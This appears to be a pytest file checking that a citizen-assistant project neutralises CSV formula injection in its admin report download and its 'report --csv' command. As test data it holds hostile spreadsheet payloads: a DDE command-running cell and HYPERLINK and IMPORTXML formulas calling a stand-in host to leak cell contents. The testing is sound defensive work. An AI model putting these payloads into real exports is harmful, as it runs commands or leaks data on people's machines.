"""Issue 13: CSV formula injection in /admin/report.csv and `trolyao report --csv`.

Questions a citizen types (and notes staff write) are cells of the maintainers' spreadsheet:
a cell starting with = + - @ (also after spaces, tabs or newlines), a tab or a CR must not
run as a formula. OWASP's recommendation: prefix it with a single quote, shown as typed."""
from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
import uuid
from pathlib import Path

import pytest

from trolyao.staff.report import safe_cell

PROJECT_ROOT = Path(__file__).resolve().parent.parent
TROLYAO = PROJECT_ROOT / ".venv" / "bin" / "trolyao"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def runs_as_formula(cell: str) -> bool:
    """What a spreadsheet does with a cell: formulas after leading blanks too."""
    import unicodedata

    if cell[:1] in ("\t", "\r"):
        return True
    stripped = unicodedata.normalize("NFKC", cell.lstrip(" \t\r\n\u00a0\u3000")[:1])
    return stripped.startswith(FORMULA_START[:4])


@pytest.mark.parametrize("cell", [
    "=1+1", "+1", "-2+3", "@SUM(A1)", " =cmd|' /C calc'!A0", "\t=1", "\r=1", "\n\n@x",
    "\u3000=1", "＝1+1", "＠x", "\t", "\rabc",
])
def test_formula_cells_are_quoted(cell):
    safe = safe_cell(cell)
    assert safe == "'" + cell and not runs_as_formula(safe)


@pytest.mark.parametrize("cell", ["làm hộ chiếu thế nào", "CCCD - căn cước", "1+1", "", "'=x", 3, None])
def test_ordinary_cells_are_unchanged(cell):
    assert safe_cell(cell) == cell


def declined_questions(tag: str) -> list[str]:
    """Questions the assistant declines (so they are in the to-do list), each starting with
    one of the characters a spreadsheet reads as a formula."""
    return [
        f'=HYPERLINK("http://x.example/?"&A1;"nuôi chó cảnh") {tag}',
        f"+1 đăng ký nuôi chó cảnh ở phường thế nào {tag}",
        f"-2+3 đăng ký nuôi chó cảnh ở phường thế nào {tag}",
        f"@SUM(1+1) đăng ký nuôi chó cảnh ở phường thế nào {tag}",
    ]


def assert_no_formula(rows: list[dict], tag: str, asked: list[str]) -> None:
    ours = {r["question"]: r for r in rows if tag in r["question"]}
    for question in asked:
        assert "'" + question in ours, f"{question!r} missing or not neutralised: {list(ours)}"
    for row in rows:
        for column, cell in row.items():
            assert not (cell and runs_as_formula(cell)), (column, cell)


@pytest.fixture(scope="module")
def injected(assistant, settings):
    from trolyao.staff.review_store import ReviewStore
    from trolyao.cli.shell import PlainView
    from trolyao.staff.shell import ShellSession

    tag = uuid.uuid4().hex[:6]
    asked = declined_questions(tag)
    for i, question in enumerate(asked):
        assert assistant.chat(f"csv-{tag}-{i}", question).fallback, question
    shell = ShellSession(assistant, PlainView(io.StringIO()), ReviewStore.for_settings(settings))
    shell.handle(f"làm hộ chiếu cho con cần gì {tag}")
    shell.handle(f"/flag =IMPORTXML(\"http://x.example\";\"//a\") {tag}")
    return tag, asked


def test_admin_csv_neutralises_formulas(app, settings, injected):
    tag, asked = injected
    cache = app.extensions.get("admin_report_cache")
    if cache is not None:
        cache.clear()
    response = app.test_client().get("/admin/report.csv",
                                     headers={"Authorization": f"Bearer {settings.admin_token}"})
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    assert_no_formula(rows, tag, asked)
    notes = [r["notes"] for r in rows if tag in r["notes"]]
    assert notes and all(n.startswith("'=IMPORTXML") for n in notes)


def test_report_command_csv_neutralises_formulas(injected):
    tag, asked = injected
    command = [str(TROLYAO)] if TROLYAO.exists() else [sys.executable, "-m", "trolyao.cli"]
    result = subprocess.run(command + ["report", "--csv", "-"], capture_output=True, text=True,
                            timeout=300, env={**os.environ}, cwd=PROJECT_ROOT)
    assert result.returncode == 0, result.stderr[-2000:]
    assert_no_formula(list(csv.DictReader(io.StringIO(result.stdout))), tag, asked)
